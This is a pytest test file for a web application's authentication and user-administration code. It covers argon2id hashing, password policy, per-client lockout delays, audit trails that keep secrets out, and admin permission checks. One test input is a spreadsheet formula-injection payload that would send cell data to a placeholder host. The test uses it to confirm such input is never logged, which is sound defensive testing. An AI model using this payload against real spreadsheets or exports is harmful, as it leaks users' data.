"""Passwords, sign-in with its growing delay, and user administration, on SQLite and PostgreSQL.

Hashing uses real argon2id with cheap parameters (`configure_hasher`), so that the hundreds of
hashes these tests make take milliseconds; the defaults are restored after each test.
"""

from __future__ import annotations

import json
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta

import pytest
from argon2 import PasswordHasher
from sqlalchemy.engine import Engine
from sqlmodel import col, select

from xchange.accounts import auth
from xchange.accounts.attempts import account_key, client_key, lock_duration
from xchange.accounts.auth import (
    DEACTIVATED,
    WRONG_CREDENTIALS,
    add_user,
    authenticate,
    check_password_policy,
    hash_password,
    list_users,
    session_expired,
    set_active,
    set_password,
    set_role_and_partnerships,
    user_by_email,
    verify_password,
)
from xchange.db.engine import LOCAL_ADMIN_EMAIL, read_session, write_session
from xchange.errors import InvalidInput, NotFound, PermissionDenied, SignInRefused, StaleRecord
from xchange.models import AuditEvent, Partnership, Role, SignInAttempt, User, utcnow

NOW = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
ADMIN_PASSWORD = "admin passphrase 1"
COORD_PASSWORD = "coordinator passphrase 2"
WRONG_PASSWORD = "not the password 3"


pytestmark = pytest.mark.usefixtures("cheap_hashing")


@dataclass(frozen=True)
class World:
    admin_id: int
    coordinator_id: int
    local_admin_id: int


@pytest.fixture
def world(engine: Engine) -> World:
    """Partnerships ALPHA and BETA, an admin, a coordinator of ALPHA (with passwords)."""
    with write_session(engine) as session:
        session.add_all(
            Partnership(
                acronym=acronym,
                name=f"{acronym} partnership",
                action_start=date(2025, 1, 1),
                action_end=date(2026, 12, 31),
            )
            for acronym in ("ALPHA", "BETA")
        )
        admin = User(
            email="admin@x.eu", role=Role.ADMIN.value, password_hash=hash_password(ADMIN_PASSWORD)
        )
        session.add(admin)
        session.flush()
        coordinator = add_user(
            session=session,
            actor=admin,
            email="Coord@X.eu",
            role=Role.COORDINATOR,
            password=COORD_PASSWORD,
            partnerships=["alpha"],
        )
        local = user_by_email(session=session, email=LOCAL_ADMIN_EMAIL)
        assert admin.id and coordinator.id and local and local.id
        return World(admin_id=admin.id, coordinator_id=coordinator.id, local_admin_id=local.id)


def _user(engine: Engine, user_id: int) -> User:
    with read_session(engine) as session:
        user = session.get(User, user_id)
        assert user is not None
        session.expunge(user)
        return user


def _events(engine: Engine, *actions: str) -> list[AuditEvent]:
    with read_session(engine) as session:
        query = select(AuditEvent).order_by(col(AuditEvent.id))
        if actions:
            query = query.where(col(AuditEvent.action).in_(actions))
        return list(session.exec(query).all())


def _sign_in(
    engine: Engine, email: str, password: str, now: datetime = NOW, client: str | None = None
) -> User:
    with read_session(engine) as session:
        return authenticate(session=session, email=email, password=password, client=client, now=now)


def _refusal(
    engine: Engine, email: str, password: str, now: datetime = NOW, client: str | None = None
) -> str:
    with pytest.raises(SignInRefused) as caught:
        _sign_in(engine, email, password, now, client)
    message = str(caught.value)
    assert not password or password not in message
    return message


def _lock(engine: Engine, email: str, client: str | None = None) -> datetime | None:
    """When the lock on `email` (as typed) for `client` ends, as stored."""
    with read_session(engine) as session:
        row = session.get(SignInAttempt, (account_key(email), client_key(client)))
        return None if row is None else row.locked_until


def _assert_no_secrets(engine: Engine, *passwords: str) -> None:
    """No password and no stored hash anywhere in the audit trail."""
    with read_session(engine) as session:
        hashes = [h for h in session.exec(select(User.password_hash)).all() if h]
        trail = json.dumps(
            [e.model_dump(mode="json") for e in session.exec(select(AuditEvent)).all()]
        )
    for secret in (*passwords, *hashes, "$argon2"):
        assert not secret or secret not in trail


# --- hashing and policy ------------------------------------------------------------------------


def test_hash_is_argon2id_salted_and_verifies() -> None:
    first, second = hash_password("a passphrase"), hash_password("a passphrase")
    assert first.startswith("$argon2id$")
    assert first != second  # each hash has its own salt
    assert verify_password(first, "a passphrase")
    assert not verify_password(first, "another passphrase")
    assert not verify_password("not a hash", "a passphrase")


def test_configure_hasher_without_arguments_restores_the_defaults() -> None:
    assert "m=8192,t=1" in hash_password("a passphrase")
    cheap = hash_password("a passphrase")
    auth.configure_hasher()
    defaults = PasswordHasher()
    assert f"m={defaults.memory_cost},t={defaults.time_cost}" in hash_password("x")
    assert verify_password(cheap, "a passphrase")  # old hashes carry their own parameters


@pytest.mark.parametrize(
    ("password", "email", "problem"),
    [
        ("short", None, "at least 10 characters"),
        ("123456789012", None, "only digits"),
        ("anna@x.eu", "anna@x.eu", "at least 10 characters"),  # too short first
        ("Anna.Long@Example.EU", "anna.long@example.eu", "not be the email"),
        ("anna.long.name", "anna.long.name@example.eu", "not be the email"),  # its local part
        ("x" * 1025, None, "at most 1024"),
        ("ten chars!", None, None),
        ("0123456789a", None, None),  # digits and one letter: allowed
        ("anna.long@example.eu!", "anna.long@example.eu", None),
    ],
)
def test_password_policy(password: str, email: str | None, problem: str | None) -> None:
    if problem is None:
        check_password_policy(password, email=email)
        return
    with pytest.raises(InvalidInput, match=problem) as caught:
        check_password_policy(password, email=email)
    assert isinstance(caught.value, ValueError)
    assert password not in str(caught.value)


@pytest.mark.parametrize(
    ("failures", "seconds"),
    [
        (1, 0),
        (3, 0),  # three free attempts
        (4, 2),  # then 2 ** (failures - 3) seconds
        (5, 4),
        (10, 128),
        (12, 512),
        (13, 900),  # 1024 s, capped at 15 minutes
        (10_000, 900),
    ],
)
def test_lock_duration(failures: int, seconds: int) -> None:
    assert lock_duration(failures) == timedelta(seconds=seconds)


@pytest.mark.parametrize(
    ("minutes_ago", "expired"), [(0, False), (479, False), (480, True), (1000, True)]
)
def test_session_expired(monkeypatch: pytest.MonkeyPatch, minutes_ago: int, expired: bool) -> None:
    monkeypatch.setenv("XCHANGE_SESSION_TTL_MINUTES", "480")
    assert session_expired(NOW - timedelta(minutes=minutes_ago), NOW) is expired


def test_session_expired_follows_the_setting(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XCHANGE_SESSION_TTL_MINUTES", "5")
    assert session_expired(NOW - timedelta(minutes=5), NOW)
    assert not session_expired(NOW - timedelta(minutes=4), NOW)
    assert not session_expired(utcnow())  # default now
    with pytest.raises(ValueError, match="timezone-aware"):
        session_expired(datetime(2026, 3, 2, 9, 0), NOW)


# --- signing in ----------------------------------------------------------------------------------


def test_sign_in_matches_the_email_in_any_case(engine: Engine, world: World) -> None:
    with read_session(engine) as session:
        user = authenticate(
            session=session, email="  COORD@x.EU ", password=COORD_PASSWORD, now=NOW
        )
        assert user in session  # the caller's own copy
        assert (user.id, user.email, user.role) == (
            world.coordinator_id,
            "coord@x.eu",
            "coordinator",
        )
    assert _events(engine, "sign_in_failed", "sign_in_locked") == []


@pytest.mark.parametrize(
    ("email", "password", "label", "counted"),
    [
        ("nobody@x.eu", COORD_PASSWORD, "unknown email", False),  # unknown email
        ("coord@x.eu", WRONG_PASSWORD, "coord@x.eu", True),
        ("coord@x.eu", COORD_PASSWORD.upper(), "coord@x.eu", True),  # case-sensitive
        ("coord@x.eu", "", "coord@x.eu", True),
        (LOCAL_ADMIN_EMAIL, "", LOCAL_ADMIN_EMAIL, False),  # never signs in by password
        (LOCAL_ADMIN_EMAIL, COORD_PASSWORD, LOCAL_ADMIN_EMAIL, False),
    ],
)
def test_one_message_for_every_wrong_credential(
    engine: Engine, world: World, email: str, password: str, label: str, counted: bool
) -> None:
    assert _refusal(engine, email, password) == WRONG_CREDENTIALS
    [event] = _events(engine, "sign_in_failed", "sign_in_locked")
    assert (event.action, event.entity, event.actor_id) == ("sign_in_failed", "user", None)
    assert event.actor_label == label and event.changes == {}
    assert event.at == NOW
    expected_id = None if email == "nobody@x.eu" else user_by_id_of(engine, email)
    assert event.entity_id == expected_id
    assert _user(engine, world.coordinator_id).failed_logins == (1 if counted else 0)
    _assert_no_secrets(engine, password, COORD_PASSWORD)


def user_by_id_of(engine: Engine, email: str) -> int | None:
    with read_session(engine) as session:
        user = user_by_email(session=session, email=email)
        return None if user is None else user.id


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://example.invalid/?leak="&A1,"Sign in again")',
        COORD_PASSWORD,  # a password typed into the Email field by mistake
        "X" * 400 + "@X.EU",
        "Nobody@X.eu",
    ],
)
def test_the_text_typed_as_email_is_never_recorded(
    engine: Engine, world: World, typed: str
) -> None:
    _refusal(engine, typed, WRONG_PASSWORD)
    [event] = _events(engine, "sign_in_failed")
    assert (event.actor_label, event.entity_id) == ("unknown email", None)
    with read_session(engine) as session:
        stored = [row.model_dump() for row in session.exec(select(SignInAttempt)).all()]
    assert typed.lower() not in json.dumps([event.model_dump(mode="json"), stored], default=str)


def test_a_known_email_is_recorded_as_the_account(engine: Engine, world: World) -> None:
    _refusal(engine, "  COORD@x.EU ", WRONG_PASSWORD)
    [event] = _events(engine, "sign_in_failed")
    assert (event.actor_label, event.entity_id) == ("coord@x.eu", world.coordinator_id)


def test_deactivated_account_is_told_only_after_the_right_password(
    engine: Engine, world: World
) -> None:
    _deactivate(engine, world)
    # A wrong password says nothing about the account.
    assert _refusal(engine, "coord@x.eu", WRONG_PASSWORD) == WRONG_CREDENTIALS
    assert _refusal(engine, "coord@x.eu", COORD_PASSWORD) == DEACTIVATED
    assert [e.action for e in _events(engine, "sign_in_failed")] == ["sign_in_failed"] * 2


def test_failures_lock_the_email_for_the_client_with_a_growing_delay(
    engine: Engine, world: World
) -> None:
    for _ in range(3):
        assert _refusal(engine, "coord@x.eu", WRONG_PASSWORD) == WRONG_CREDENTIALS
    assert _lock(engine, "coord@x.eu") is None

    # The 4th failure locks for 2 seconds; while locked even the right password is refused,
    # without being counted.
    assert _refusal(engine, "coord@x.eu", WRONG_PASSWORD) == WRONG_CREDENTIALS
    assert _lock(engine, "coord@x.eu") == NOW + timedelta(seconds=2)
    assert _user(engine, world.coordinator_id).failed_logins == 4
    locked = "Too many failed attempts: try again in 2 seconds."
    assert _refusal(engine, "coord@x.eu", COORD_PASSWORD) == locked
    later = NOW + timedelta(seconds=1, milliseconds=500)
    assert _refusal(engine, "coord@x.eu", COORD_PASSWORD, later) == (
        "Too many failed attempts: try again in 1 second."
    )
    assert _user(engine, world.coordinator_id).failed_logins == 4

    # The 5th failure, once the lock is over, locks for 4 seconds.
    after = NOW + timedelta(seconds=2)
    _refusal(engine, "coord@x.eu", WRONG_PASSWORD, after)
    assert _lock(engine, "coord@x.eu") == after + timedelta(seconds=4)

    failed, locked_now = "sign_in_failed", "sign_in_locked"
    assert [e.action for e in _events(engine, failed, locked_now)] == [
        *[failed] * 3,
        *[failed, locked_now],  # the 4th failure
        *[failed] * 2,  # the two attempts while locked: recorded, not counted
        *[failed, locked_now],  # the 5th failure
    ]

    # Success after the lock resets the count.
    user = _sign_in(engine, "coord@x.eu", COORD_PASSWORD, after + timedelta(seconds=4))
    assert user.failed_logins == 0
    assert _user(engine, world.coordinator_id).failed_logins == 0
    with read_session(engine) as session:
        assert session.exec(select(SignInAttempt)).all() == []
    _assert_no_secrets(engine, WRONG_PASSWORD, COORD_PASSWORD)


def _answers(engine: Engine, email: str, monkeypatch: pytest.MonkeyPatch) -> list[tuple]:
    """What eight wrong guesses at one-second steps, then the right password, get: each answer
    with the number of password hashes checked for it."""
    checks: list[int] = []
    real = auth.verify_password

    def counting(password_hash: str, password: str) -> bool:
        checks.append(1)
        return real(password_hash, password)

    monkeypatch.setattr(auth, "verify_password", counting)
    answers = []
    for step in range(9):
        checks.clear()
        moment = NOW + timedelta(seconds=step)
        password = COORD_PASSWORD if step == 8 else WRONG_PASSWORD
        try:
            _sign_in(engine, email, password, moment, client="203.0.113.7")
            answers.append(("signed in", len(checks)))
        except SignInRefused as refused:
            answers.append((str(refused), len(checks)))
    return answers


def test_an_unknown_email_gets_the_same_answers_and_delays_as_a_known_one(
    engine: Engine, world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    known = _answers(engine, "coord@x.eu", monkeypatch)
    unknown = _answers(engine, "nobody@x.eu", monkeypatch)
    # The right password, tried while locked, is refused unchecked for both.
    assert known == unknown
    assert known[:4] == [(WRONG_CREDENTIALS, 1)] * 4
    assert known[4] == ("Too many failed attempts: try again in 1 second.", 0)
    assert [message for message, _ in known].count(WRONG_CREDENTIALS) == 5
    assert known[-1] == ("Too many failed attempts: try again in 1 second.", 0)


def test_a_client_that_has_not_failed_signs_in_while_another_is_slowed(
    engine: Engine, world: World
) -> None:
    attacker, owner = "198.51.100.9", "203.0.113.7"
    # The attacker keeps guessing for hours, right up to each moment the owner signs in.
    for minute in range(0, 600, 5):
        moment = NOW + timedelta(minutes=minute)
        _refusal(engine, "coord@x.eu", WRONG_PASSWORD, moment, client=attacker)
    assert _refusal(engine, "coord@x.eu", COORD_PASSWORD, moment, client=attacker).startswith(
        "Too many failed attempts"
    )
    # The owner, from another address, is never slowed: neither a typo nor the password.
    assert _refusal(engine, "coord@x.eu", WRONG_PASSWORD, moment, client=owner) == (
        WRONG_CREDENTIALS
    )
    assert _sign_in(engine, "coord@x.eu", COORD_PASSWORD, moment, client=owner).id == (
        world.coordinator_id
    )
    # ... and the attacker still is.
    locked = _lock(engine, "coord@x.eu", attacker)
    assert locked is not None and locked > moment


def test_counts_are_forgotten_after_a_day_without_failure(engine: Engine, world: World) -> None:
    for _ in range(5):
        _refusal(engine, "nobody@x.eu", WRONG_PASSWORD)
    next_day = NOW + timedelta(days=1, seconds=1)
    _refusal(engine, "coord@x.eu", WRONG_PASSWORD, next_day)  # any failure prunes old rows
    assert _lock(engine, "nobody@x.eu") is None
    for _ in range(2):
        assert _refusal(engine, "nobody@x.eu", WRONG_PASSWORD, next_day) == WRONG_CREDENTIALS


def test_concurrent_failures_are_all_counted(engine: Engine, world: World) -> None:
    # The count is read again and updated under a row lock (PostgreSQL) or the database's write
    # lock (SQLite): simultaneous wrong guesses may not overwrite each other's count.
    def attempt(_: int) -> str:
        try:
            _sign_in(engine, "coord@x.eu", WRONG_PASSWORD)
        except SignInRefused as refused:
            return str(refused)
        return "signed in"

    with ThreadPoolExecutor(max_workers=6) as pool:
        messages = list(pool.map(attempt, range(6)))
    # The first three are free; each later one either locks or meets the lock already set.
    assert messages.count(WRONG_CREDENTIALS) >= 4
    assert "signed in" not in messages
    user = _user(engine, world.coordinator_id)
    counted = messages.count(WRONG_CREDENTIALS)
    assert user.failed_logins == counted
    with read_session(engine) as session:
        [row] = session.exec(select(SignInAttempt)).all()
    assert row.failures == counted
    assert len(_events(engine, "sign_in_failed")) == 6


def test_lock_is_capped_at_fifteen_minutes(engine: Engine, world: World) -> None:
    with write_session(engine) as session:
        session.add(
            SignInAttempt(
                account=account_key("coord@x.eu"),
                client=client_key(None),
                failures=20,
                last_failed_at=NOW,
            )
        )
    _refusal(engine, "coord@x.eu", WRONG_PASSWORD)
    assert _lock(engine, "coord@x.eu") == NOW + timedelta(minutes=15)
    assert _refusal(engine, "coord@x.eu", COORD_PASSWORD) == (
        "Too many failed attempts: try again in 15 minutes."
    )
    message = _refusal(engine, "coord@x.eu", COORD_PASSWORD, NOW + timedelta(minutes=14))
    assert message == "Too many failed attempts: try again in 1 minute."


def test_refusals_are_committed_although_the_caller_rolls_back(
    engine: Engine, world: World
) -> None:
    with pytest.raises(SignInRefused), read_session(engine) as session:
        try:
            authenticate(session=session, email="coord@x.eu", password=WRONG_PASSWORD, now=NOW)
        finally:
            session.rollback()
    assert _user(engine, world.coordinator_id).failed_logins == 1
    assert len(_events(engine, "sign_in_failed")) == 1


def test_authenticate_wants_a_session_without_an_open_transaction(
    engine: Engine, world: World
) -> None:
    with write_session(engine) as session:
        session.exec(select(User)).all()
        with pytest.raises(RuntimeError, match="none open"):
            authenticate(session=session, email="coord@x.eu", password=COORD_PASSWORD)


def test_authenticate_refuses_a_naive_now(engine: Engine, world: World) -> None:
    with pytest.raises(ValueError, match="timezone-aware"):
        _sign_in(engine, "coord@x.eu", COORD_PASSWORD, datetime(2026, 3, 2, 9, 0))


def test_a_hash_with_old_parameters_is_renewed_at_sign_in(engine: Engine, world: World) -> None:
    old = _user(engine, world.coordinator_id).password_hash
    assert old and "t=1" in old
    auth.configure_hasher(time_cost=2, memory_cost=8 * 1024)
    _sign_in(engine, "coord@x.eu", COORD_PASSWORD)
    new = _user(engine, world.coordinator_id).password_hash
    assert new and new != old and "t=2" in new
    assert _sign_in(engine, "coord@x.eu", COORD_PASSWORD).id == world.coordinator_id


# --- user administration ---------------------------------------------------------------------


def test_add_user_normalises_and_records(engine: Engine, world: World) -> None:
    with write_session(engine) as session:
        admin = session.get(User, world.admin_id)
        assert admin is not None
        user = add_user(
            session=session,
            actor=admin,
            email=" Nina@Example.EU ",
            role="Coordinator",
            password="nina's passphrase",
            partnerships=["beta", "Alpha", "ALPHA"],
        )
        user_id = user.id
    with read_session(engine) as session:
        listed = {u.email: acronyms for u, acronyms in list_users(session=session)}
    assert listed["nina@example.eu"] == ["ALPHA", "BETA"]
    assert listed["coord@x.eu"] == ["ALPHA"]
    assert listed[LOCAL_ADMIN_EMAIL] == []
    event = _events(engine, "create")[-1]
    assert (event.entity, event.entity_id, event.actor_id) == ("user", user_id, world.admin_id)
    assert event.changes == {
        "email": [None, "nina@example.eu"],
        "role": [None, "coordinator"],
        "active": [None, True],
        "partnerships": [None, ["ALPHA", "BETA"]],
        "password": "changed",
    }
    assert _sign_in(engine, "nina@example.eu", "nina's passphrase").id == user_id
    _assert_no_secrets(engine, "nina's passphrase", COORD_PASSWORD, ADMIN_PASSWORD)


def test_add_user_without_password_is_sso_only(engine: Engine, world: World) -> None:
    with write_session(engine) as session:
        admin = session.get(User, world.admin_id)
        assert admin is not None
        user = add_user(
            session=session,
            actor=admin,
            email="eisma@ec.europa.eu",
            role=Role.OFFICER,
            password=None,
        )
        assert user.password_hash is None
    assert "password" not in _events(engine, "create")[-1].changes
    assert _refusal(engine, "eisma@ec.europa.eu", "") == WRONG_CREDENTIALS


@pytest.mark.parametrize(
    ("email", "role", "password", "partnerships", "problem"),
    [
        ("not-an-email", "officer", None, [], "not an email address"),
        ("two words@x.eu", "officer", None, [], "not an email address"),
        ("", "officer", None, [], "An empty value is not an email address"),
        ("COORD@x.eu", "officer", None, [], "already a user with the email coord@x.eu"),
        ("new@x.eu", "superuser", None, [], "Unknown role 'superuser'"),
        ("new@x.eu", "coordinator", None, [], "needs at least one partnership"),
        (
            "new@x.eu",
            "coordinator",
            None,
            ["ALPHA", "GAMMA", "delta"],
            "Unknown partnerships: GAMMA, delta",
        ),
        ("new@x.eu", "officer", None, ["ALPHA"], "An officer has no partnerships"),
        ("new@x.eu", "admin", None, ["ALPHA"], "An admin has no partnerships"),
        ("new@x.eu", "admin", "new@x.eu!!", [], None),  # long enough, not the email: fine
        ("new@x.eu", "admin", "short", [], "at least 10 characters"),
        ("newcomer@x.eu", "admin", "NEWCOMER@X.EU", [], "not be the email"),
    ],
)
def test_add_user_refuses_bad_input(
    engine: Engine,
    world: World,
    email: str,
    role: str,
    password: str | None,
    partnerships: list[str],
    problem: str | None,
) -> None:
    with write_session(engine) as session:
        admin = session.get(User, world.admin_id)
        assert admin is not None
        if problem is None:
            add_user(
                session=session,
                actor=admin,
                email=email,
                role=role,
                password=password,
                partnerships=partnerships,
            )
            return
        with pytest.raises(InvalidInput, match=problem) as caught:
            add_user(
                session=session,
                actor=admin,
                email=email,
                role=role,
                password=password,
                partnerships=partnerships,
            )
        if password:
            assert password not in str(caught.value)


# Every administration function, called by someone who is not an administrator.
NON_ADMIN_CALLS = {
    "add_user": lambda s, a, uid: add_user(
        session=s, actor=a, email="new@x.eu", role=Role.OFFICER, password=None
    ),
    "set_password": lambda s, a, uid: set_password(
        session=s, actor=a, user_id=uid, expected_version=1, password="a new passphrase"
    ),
    "set_active": lambda s, a, uid: set_active(
        session=s, actor=a, user_id=uid, expected_version=1, active=False
    ),
    "set_role": lambda s, a, uid: set_role_and_partnerships(
        session=s, actor=a, user_id=uid, expected_version=1, role=Role.ADMIN
    ),
}


@pytest.mark.parametrize("action", sorted(NON_ADMIN_CALLS))
def test_administration_needs_an_administrator(engine: Engine, world: World, action: str) -> None:
    with pytest.raises(PermissionDenied) as caught, write_session(engine) as session:
        coordinator = session.get(User, world.coordinator_id)
        assert coordinator is not None
        NON_ADMIN_CALLS[action](session, coordinator, world.coordinator_id)
    assert "only administrators may" in str(caught.value)
    assert "a new passphrase" not in str(caught.value)
    [refused] = _events(engine, "refused")
    assert refused.changes == {"attempted": action}
    assert (refused.entity, refused.actor_id) == ("user", world.coordinator_id)
    coordinator = _user(engine, world.coordinator_id)
    assert (coordinator.role, coordinator.active) == ("coordinator", True)  # nothing changed
    _assert_no_secrets(engine, "a new passphrase")


def _version(engine: Engine, user_id: int) -> int:
    return _user(engine, user_id).version


def _deactivate(engine: Engine, world: World, active: bool = False) -> None:
    with write_session(engine) as session:
        admin = session.get(User, world.admin_id)
        assert admin is not None
        set_active(
            session=session,
            actor=admin,
            user_id=world.coordinator_id,
            expected_version=_version(engine, world.coordinator_id),
            active=active,
        )


def _new_password(engine: Engine, world: World, password: str, user_id: int | None = None) -> None:
    user_id = world.coordinator_id if user_id is None else user_id
    with write_session(engine) as session:
        admin = session.get(User, world.admin_id)
        assert admin is not None
        set_password(
            session=session,
            actor=admin,
            user_id=user_id,
            expected_version=_version(engine, user_id),
            password=password,
        )


def test_set_password_replaces_the_hash_and_lifts_every_lock(engine: Engine, world: World) -> None:
    for client in ("198.51.100.9", None):
        for _ in range(4):
            _refusal(engine, "coord@x.eu", WRONG_PASSWORD, client=client)
        assert _lock(engine, "coord@x.eu", client) is not None
    _new_password(engine, world, "a brand new passphrase")
    user = _user(engine, world.coordinator_id)
    assert (user.failed_logins, user.version) == (0, 2)
    assert _lock(engine, "coord@x.eu", "198.51.100.9") is _lock(engine, "coord@x.eu") is None
    event = _events(engine, "update")[-1]
    assert event.changes == {"password": "changed", "failed_logins": [8, 0], "version": [1, 2]}
    assert _refusal(engine, "coord@x.eu", COORD_PASSWORD) == WRONG_CREDENTIALS
    assert _sign_in(engine, "coord@x.eu", "a brand new passphrase").id == world.coordinator_id
    _assert_no_secrets(engine, "a brand new passphrase", COORD_PASSWORD, WRONG_PASSWORD)


def test_a_password_change_ends_the_other_sessions(engine: Engine, world: World) -> None:
    laptop = _sign_in(engine, "coord@x.eu", COORD_PASSWORD)
    phone = _sign_in(engine, "coord@x.eu", COORD_PASSWORD, client="203.0.113.7")
    assert auth.session_current(_user(engine, world.coordinator_id), laptop.session_epoch)
    _new_password(engine, world, "a brand new passphrase")
    now = _user(engine, world.coordinator_id)
    assert not auth.session_current(now, laptop.session_epoch)
    assert not auth.session_current(now, phone.session_epoch)
    again = _sign_in(engine, "coord@x.eu", "a brand new passphrase")
    assert auth.session_current(_user(engine, world.coordinator_id), again.session_epoch)


def test_a_deactivation_ends_the_sessions_for_good(engine: Engine, world: World) -> None:
    signed_in = _sign_in(engine, "coord@x.eu", COORD_PASSWORD)
    _deactivate(engine, world)
    assert not auth.session_current(_user(engine, world.coordinator_id), signed_in.session_epoch)
    _deactivate(engine, world, active=True)  # reactivated: the old session stays over
    assert not auth.session_current(_user(engine, world.coordinator_id), signed_in.session_epoch)


@pytest.mark.parametrize("second", ["set_password", "set_active", "set_role"])
@pytest.mark.parametrize("first", ["set_password", "set_active", "set_role"])
def test_two_administrators_editing_one_user_the_second_is_refused(
    engine: Engine, world: World, first: str, second: str
) -> None:
    edits = {
        "set_password": lambda s, a, version: set_password(
            session=s,
            actor=a,
            user_id=world.coordinator_id,
            expected_version=version,
            password="a new passphrase",
        ),
        "set_active": lambda s, a, version: set_active(
            session=s,
            actor=a,
            user_id=world.coordinator_id,
            expected_version=version,
            active=False,
        ),
        "set_role": lambda s, a, version: set_role_and_partnerships(
            session=s,
            actor=a,
            user_id=world.coordinator_id,
            expected_version=version,
            role=Role.COORDINATOR,
            partnerships=["BETA"],
        ),
    }
    read = _version(engine, world.coordinator_id)  # both opened the user at this version
    with write_session(engine) as session:
        admin = session.get(User, world.admin_id)
        edits[first](session, admin, read)
    before = _user(engine, world.coordinator_id)
    with pytest.raises(StaleRecord) as caught, write_session(engine) as session:
        admin = session.get(User, world.admin_id)
        edits[second](session, admin, read)
    assert str(caught.value).startswith("User coord@x.eu was changed by someone else")
    assert "nothing was saved" in str(caught.value)
    assert "a new passphrase" not in str(caught.value)
    after = _user(engine, world.coordinator_id)
    assert after.model_dump() == before.model_dump()  # the second wrote nothing
    assert after.version == read + 1


def test_concurrent_edits_of_one_user_one_wins(engine: Engine, world: World) -> None:
    # Both read version 1 and write at once: the version check and bump are one statement.
    def edit(active: bool) -> str:
        try:
            with write_session(engine) as session:
                admin = session.get(User, world.admin_id)
                set_role_and_partnerships(
                    session=session,
                    actor=admin,  # type: ignore[arg-type]
                    user_id=world.coordinator_id,
                    expected_version=1,
                    role=Role.COORDINATOR,
                    partnerships=["BETA"] if active else ["ALPHA", "BETA"],
                )
            return "saved"
        except StaleRecord:
            return "stale"

    with ThreadPoolExecutor(max_workers=2) as pool:
        outcomes = sorted(pool.map(edit, [True, False]))
    assert outcomes == ["saved", "stale"]
    assert _version(engine, world.coordinator_id) == 2


@pytest.mark.parametrize(
    ("target", "password", "error", "problem"),
    [
        ("coordinator", "coord@x.eu", InvalidInput, "not be the email"),
        ("coordinator", "1234567890", InvalidInput, "only digits"),
        ("local_admin", "a good passphrase", InvalidInput, "local administrator has no password"),
        ("missing", "a good passphrase", NotFound, "No user with id 999"),
    ],
)
def test_set_password_refuses(
    engine: Engine,
    world: World,
    target: str,
    password: str,
    error: type[Exception],
    problem: str,
) -> None:
    ids = {
        "coordinator": world.coordinator_id,
        "local_admin": world.local_admin_id,
        "missing": 999,
    }
    with write_session(engine) as session:
        admin = session.get(User, world.admin_id)
        assert admin is not None
        with pytest.raises(error, match=problem) as caught:
            set_password(
                session=session,
                actor=admin,
                user_id=ids[target],
                expected_version=1,
                password=password,
            )
    assert password not in str(caught.value)


def test_set_active(engine: Engine, world: World) -> None:
    with write_session(engine) as session:
        admin = session.get(User, world.admin_id)
        assert admin is not None
        for version in (1, 2):
            set_active(
                session=session,
                actor=admin,
                user_id=world.coordinator_id,
                expected_version=version,
                active=False,
            )
    user = _user(engine, world.coordinator_id)
    assert (user.active, user.version) == (False, 2)
    [event] = _events(engine, "update")  # the second call changed nothing, recorded nothing
    assert event.changes == {"active": [True, False], "version": [1, 2]}
    _deactivate(engine, world, active=True)
    assert _user(engine, world.coordinator_id).active


@pytest.mark.parametrize(
    ("target", "problem"),
    [
        ("self", "cannot deactivate your own account"),
        ("local_admin", "local administrator cannot be deactivated"),
    ],
)
def test_set_active_refuses(engine: Engine, world: World, target: str, problem: str) -> None:
    user_id = world.admin_id if target == "self" else world.local_admin_id
    with write_session(engine) as session:
        admin = session.get(User, world.admin_id)
        assert admin is not None
        with pytest.raises(InvalidInput, match=problem):
            set_active(
                session=session, actor=admin, user_id=user_id, expected_version=1, active=False
            )


def test_set_role_and_partnerships(engine: Engine, world: World) -> None:
    with write_session(engine) as session:
        admin = session.get(User, world.admin_id)
        assert admin is not None
        set_role_and_partnerships(
            session=session,
            actor=admin,
            user_id=world.coordinator_id,
            expected_version=1,
            role=Role.COORDINATOR,
            partnerships=["BETA"],
        )
        set_role_and_partnerships(
            session=session,
            actor=admin,
            user_id=world.coordinator_id,
            expected_version=2,
            role=Role.OFFICER,
        )
    with read_session(engine) as session:
        listed = {u.email: (u.role, acr) for u, acr in list_users(session=session)}
    assert listed["coord@x.eu"] == ("officer", [])
    assert [e.changes for e in _events(engine, "update")] == [
        {"partnerships": [["ALPHA"], ["BETA"]], "version": [1, 2]},
        {"role": ["coordinator", "officer"], "partnerships": [["BETA"], []], "version": [2, 3]},
    ]


@pytest.mark.parametrize(
    ("target", "role", "partnerships", "problem"),
    [
        ("self", Role.OFFICER, [], "cannot change your own role"),
        ("local_admin", Role.OFFICER, [], "cannot change the local administrator's role"),
        ("coordinator", Role.COORDINATOR, [], "needs at least one partnership"),
        ("coordinator", Role.OFFICER, ["ALPHA"], "An officer has no partnerships"),
        ("coordinator", "root", [], "Unknown role"),
    ],
)
def test_set_role_and_partnerships_refuses(
    engine: Engine, world: World, target: str, role: str, partnerships: list[str], problem: str
) -> None:
    ids = {
        "self": world.admin_id,
        "local_admin": world.local_admin_id,
        "coordinator": world.coordinator_id,
    }
    with write_session(engine) as session:
        admin = session.get(User, world.admin_id)
        assert admin is not None
        with pytest.raises(InvalidInput, match=problem):
            set_role_and_partnerships(
                session=session,
                actor=admin,
                user_id=ids[target],
                expected_version=1,
                role=role,
                partnerships=partnerships,
            )


def test_user_by_email_ignores_case_and_spaces(engine: Engine, world: World) -> None:
    with read_session(engine) as session:
        found = user_by_email(session=session, email=" ADMIN@x.EU ")
        assert found is not None and found.id == world.admin_id
        assert user_by_email(session=session, email="nobody@x.eu") is None
